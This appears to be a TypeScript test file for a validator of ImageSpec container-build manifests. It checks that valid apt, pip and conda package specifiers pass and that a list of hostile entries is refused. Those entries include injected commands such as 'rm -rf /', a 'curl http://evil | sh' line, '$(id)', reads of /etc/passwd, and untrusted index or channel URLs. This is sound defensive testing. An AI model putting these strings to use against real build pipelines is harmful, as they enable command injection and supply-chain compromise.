import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import yaml from 'js-yaml';
import { normalizePackages, validateImageSpec, type FieldError } from './validate.ts';
import { API_VERSION } from './types.ts';

type Manager = 'apt' | 'conda' | 'pip';

function manifest(spec: Record<string, unknown>, name = 'web'): Record<string, unknown> {
  return { apiVersion: API_VERSION, kind: 'ImageSpec', metadata: { name }, spec };
}

function withPackages(manager: Manager, entries: unknown[]): Record<string, unknown> {
  return manifest({ baseImage: 'python:3.11', packages: { [manager]: entries } });
}

function errorsOf(object: unknown): FieldError[] {
  const result = validateImageSpec(object);
  return result.ok ? [] : result.errors;
}

const VALID: Record<Manager, string[]> = {
  apt: ['curl', 'libpq-dev', 'g++', 'libstdc++6', 'python3.11', 'libc6:amd64', 'curl=7.88.1-10+deb12u5', 'libc6:i386=2.36-9', 'tzdata=2024a-0+deb12u1', 'pkg=1:2.3~rc1-1', 'vim/bookworm-backports', '  git  '],
  pip: [
    'numpy',
    'numpy>=1.26,<2',
    'requests[socks]==2.32.3',
    'requests[socks,use_chardet_on_py3]>=2',
    'torch==2.3.1+cpu',
    'pkg~=1.4',
    'pkg==1.*',
    'pkg!=1.5.*',
    'Django>=4.2.0rc1',
    'zope.interface',
    'scikit-learn==1.5.0.post1',
    'pkg===1.0-custom',
    'epoch==1!2.0',
    'typing_extensions',
    ' pandas==2.2.2 ',
  ],
  conda: [
    'numpy',
    'numpy=1.26',
    'numpy==1.26.4',
    'numpy>=1.20,<2',
    'numpy=1.26.*',
    'conda-forge::numpy>=1.20,<2',
    'conda-forge::numpy',
    'conda-forge/label/dev::numpy',
    'numpy=1.26=py311*',
    'pytorch=2.3.1=*cpu*',
    'python-dateutil',
    'r-base=4.3',
  ],
};

// Each must be refused: they inject an option, a line, a command, a URL, or break the grammar.
const HOSTILE: Record<Manager, string[]> = {
  apt: [
    'coreutils-',
    'curl-=7.88',
    '-o',
    '-oAPT::Get::AllowUnauthenticated=true',
    '-o=Dpkg::Options::=--force-all',
    '--allow-unauthenticated',
    'curl -o Acquire::http::Proxy=http://evil',
    'curl; rm -rf /',
    'curl\nRUN curl http://evil | sh',
    'curl\r\nx',
    'curl\tgit',
    'curl\u0000',
    '$(id)',
    '`id`',
    'curl|sh',
    'curl && id',
    'curl > /etc/passwd',
    'Curl',
    'c',
    './local.deb',
    '/tmp/x.deb',
    '#comment',
    'curl "x"',
    "curl'",
    'curl\\',
    '',
    '   ',
    'curl=',
    'curl:',
    'a'.repeat(300),
  ],
  pip: [
    '-r /etc/passwd',
    '--index-url=http://evil',
    '--extra-index-url http://evil',
    '-e git+https://github.com/x/y',
    'git+https://github.com/x/y',
    'pkg @ https://evil/pkg.whl',
    'pkg@https://evil/pkg.whl',
    'https://evil/pkg.whl',
    './local',
    '/tmp/pkg',
    'pkg --pre',
    'pkg --global-option=--x',
    'pkg; rm -rf /',
    'pkg ; python_version<"3.12"',
    'pkg;python_version<"3.12"',
    'pkg\nRUN curl http://evil',
    'pkg\\',
    '$(id)',
    '${HOME}',
    '`id`',
    'pkg|sh',
    'pkg&&id',
    'numpy >= 1.26',
    'pkg\t',
    'pkg\u0000',
    'pkg\u2028x',
    '#pkg',
    'pkg#x',
    'pkg[',
    'pkg[]',
    'pkg==',
    'pkg=1.0',
    '-',
    '',
    'a'.repeat(300),
  ],
  conda: [
    '-c conda-forge',
    '--channel=http://evil',
    '--file=/etc/passwd',
    'https://evil/numpy.tar.bz2',
    'https://evil::numpy',
    'numpy 1.26 py311*',
    "numpy[version='>=1.20']",
    'numpy>=1.20|<0.5',
    'numpy; rm -rf /',
    'numpy\nRUN curl',
    '$(id)',
    '`id`',
    '@EXPLICIT',
    '#numpy',
    './pkg.tar.bz2',
    'numpy\t',
    'numpy\u0000',
    '',
    'a'.repeat(300),
  ],
};

describe('valid packages are accepted', () => {
  for (const manager of ['apt', 'pip', 'conda'] as const) {
    test(manager, () => {
      for (const entry of VALID[manager]) {
        assert.deepEqual(errorsOf(withPackages(manager, [entry])), [], `${manager} ${JSON.stringify(entry)}`);
      }
    });
  }
});

describe('hostile packages are refused with the field path', () => {
  for (const manager of ['apt', 'pip', 'conda'] as const) {
    test(manager, () => {
      for (const entry of HOSTILE[manager]) {
        const errors = errorsOf(withPackages(manager, ['okpkg', entry]));
        assert.ok(errors.length > 0, `${manager} ${JSON.stringify(entry)} was accepted`);
        assert.ok(
          errors.every((error) => error.path === `spec.packages.${manager}[1]`),
          `${manager} ${JSON.stringify(entry)}: ${JSON.stringify(errors)}`,
        );
      }
    });
  }
});

test('the message says what is wrong with a hostile entry', () => {
  const [semicolon] = errorsOf(withPackages('pip', ['pkg; rm -rf /']));
  assert.match(semicolon!.message, /";" is not allowed/);
  assert.match(semicolon!.message, /must be a pip requirement/);
  const [option] = errorsOf(withPackages('apt', ['-o=Dpkg::Options::=--force-all']));
  assert.match(option!.message, /must not start with "-"/);
  const [newline] = errorsOf(withPackages('conda', ['numpy\nRUN curl']));
  assert.match(newline!.message, /control characters/);
  assert.match(newline!.message, /\\n/, 'the value is shown escaped, on one line');
});

test('a very long hostile string is refused quickly and reported briefly', () => {
  const errors = errorsOf(withPackages('pip', ['a'.repeat(1_000_000) + '; rm -rf /']));
  assert.ok(errors.some((e) => /at most 256 characters, got 1000010/.test(e.message)));
  assert.ok(errors.every((e) => e.message.length < 1000));
});

test('numbers where strings belong name the field and explain YAML', () => {
  const parsed = yaml.load(`
apiVersion: imagespec.dev/v1alpha1
kind: ImageSpec
metadata: {name: web}
spec:
  baseImage: python:3.11
  packages:
    pip: [numpy, 3.10]
    conda: [python=3.10]
`);
  const errors = errorsOf(parsed);
  assert.equal(errors.length, 1);
  assert.equal(errors[0]!.path, 'spec.packages.pip[1]');
  assert.match(errors[0]!.message, /must be a string, got the number 3\.1 .*quote/);
});

test('base image, pull secret and update time are checked', () => {
  const bad = errorsOf(manifest({ baseImage: 'Not An Image!', pullSecret: 'Bad_Secret', updateTime: 'yesterday' }));
  assert.deepEqual(
    bad.map((e) => e.path),
    ['spec.baseImage', 'spec.pullSecret', 'spec.updateTime'],
  );
  for (const image of ['python:3.11', 'debian:bookworm', '127.0.0.1:5001/base/python:3.11', 'quay.io/jupyter/base-notebook:2024-07-29', `localhost/x@sha256:${'a'.repeat(64)}`, 'jupyter/base-notebook']) {
    assert.deepEqual(errorsOf(manifest({ baseImage: image })), [], image);
  }
  for (const image of ['', 'Python:3.11', 'python:3.11 ', '-python', 'python:3.11;id', 'python\n', 'UPPER/path', 'a//b', `x@sha256:${'a'.repeat(10)}`, 'http://registry/x']) {
    assert.deepEqual(errorsOf(manifest({ baseImage: image })).map((e) => e.path), ['spec.baseImage'], JSON.stringify(image));
  }
  assert.deepEqual(errorsOf(manifest({ baseImage: 'python:3.11', updateTime: '2026-11-20T08:00:00.000Z', pullSecret: 'base-pull.v2' })), []);
});

test('missing and unknown fields', () => {
  assert.deepEqual(errorsOf({ apiVersion: API_VERSION, kind: 'ImageSpec', metadata: { name: 'x' }, spec: { packages: {} } }), [
    { path: 'spec.baseImage', message: 'required' },
  ]);
  assert.deepEqual(errorsOf({ apiVersion: API_VERSION, kind: 'ImageSpec', metadata: { name: 'x' } }), [{ path: 'spec', message: 'required' }]);
  const unknown = errorsOf(manifest({ baseImage: 'python:3.11', package: { pip: ['x'] } }));
  assert.equal(unknown[0]!.path, 'spec.package');
  assert.match(unknown[0]!.message, /unknown field .*packages/);
  assert.deepEqual(errorsOf({ ...manifest({ baseImage: 'python:3.11' }), specs: {} }).map((e) => e.path), ['specs']);
  assert.deepEqual(errorsOf(manifest({ baseImage: 'python:3.11', packages: { npm: ['x'] } })).map((e) => e.path), ['spec.packages.npm']);
  assert.deepEqual(errorsOf(manifest({ baseImage: 'python:3.11', packages: { pip: 'numpy' } })).map((e) => e.path), ['spec.packages.pip']);
  assert.deepEqual(errorsOf(manifest({ baseImage: 'python:3.11', packages: { pip: Array(257).fill('x') } })).map((e) => e.message), ['must have at most 256 entries, got 257']);
});

test('apiVersion, kind and name are checked as the API server does', () => {
  const errors = errorsOf({ apiVersion: 'primehub.io/v1alpha1', kind: 'Image', metadata: { name: 'x'.repeat(64) }, spec: { baseImage: 'python:3.11' } });
  assert.deepEqual(errors.map((e) => e.path), ['apiVersion', 'kind', 'metadata.name']);
  assert.match(errors[0]!.message, /PrimeHub/);
  assert.match(errors[2]!.message, /at most 63 characters/);
  assert.deepEqual(errorsOf(manifest({ baseImage: 'python:3.11' }, 'x'.repeat(63))), []);
  assert.deepEqual(errorsOf(manifest({ baseImage: 'python:3.11' }, 'Web_1')).map((e) => e.path), ['metadata.name']);
  assert.deepEqual(errorsOf({ apiVersion: API_VERSION, kind: 'ImageSpec', spec: { baseImage: 'python:3.11' } }).map((e) => e.path), ['metadata']);
  assert.deepEqual(errorsOf('just a string').map((e) => e.path), ['']);
  assert.deepEqual(errorsOf([]).map((e) => e.path), ['']);
});

test('an exported PrimeHub ImageSpec is valid once its apiVersion is changed', () => {
  const exported = yaml.load(`
apiVersion: primehub.io/v1alpha1
kind: ImageSpec
metadata:
  name: tf-notebook
  namespace: hub
  annotations: {primehub.io/displayName: TF notebook}
  creationTimestamp: "2024-03-01T10:00:00Z"
  generation: 3
  resourceVersion: "12345"
  uid: 0a6b8c1e-0000-4000-8000-000000000000
spec:
  baseImage: jupyter/base-notebook
  pullSecret: ""
  packages:
    apt:
    - git
    pip:
    - pandas==2.2.2
    conda: []
  updateTime: ""
status:
  phase: Succeeded
  jobName: tf-notebook-d3a1b2c4
  image: registry.example.com/primehub/tf-notebook:d3a1b2c4
`) as Record<string, unknown>;
  assert.deepEqual(errorsOf(exported).map((e) => e.path), ['apiVersion']);
  exported.apiVersion = API_VERSION;
  const result = validateImageSpec(exported);
  assert.ok(result.ok, JSON.stringify(result));
  assert.equal(result.imageSpec.spec.baseImage, 'jupyter/base-notebook');
});

test('null fields count as absent, as the API server prunes them', () => {
  const parsed = yaml.load('apiVersion: imagespec.dev/v1alpha1\nkind: ImageSpec\nmetadata: {name: web}\nspec:\n  baseImage: python:3.11\n  pullSecret:\n  packages:\n    apt:\n    pip: [numpy]\n');
  const result = validateImageSpec(parsed);
  assert.ok(result.ok, JSON.stringify(result));
  assert.deepEqual(result.imageSpec.spec, { baseImage: 'python:3.11', packages: { pip: ['numpy'] } });
  assert.deepEqual(errorsOf(withPackages('pip', ['numpy', null])).map((e) => e.path), ['spec.packages.pip[1]']);
});

test('validation does not modify its input', () => {
  const input = withPackages('pip', [' numpy ']);
  (input.spec as Record<string, unknown>).pullSecret = null;
  const before = JSON.stringify(input);
  validateImageSpec(input);
  assert.equal(JSON.stringify(input), before);
});

test('normalizePackages trims, keeps order and fills in empty lists', () => {
  assert.deepEqual(normalizePackages(undefined), { apt: [], conda: [], pip: [] });
  assert.deepEqual(normalizePackages(null), { apt: [], conda: [], pip: [] });
  assert.deepEqual(normalizePackages({ pip: [' b ', 'a'], apt: ['x  '] }), { apt: ['x'], conda: [], pip: ['b', 'a'] });
});
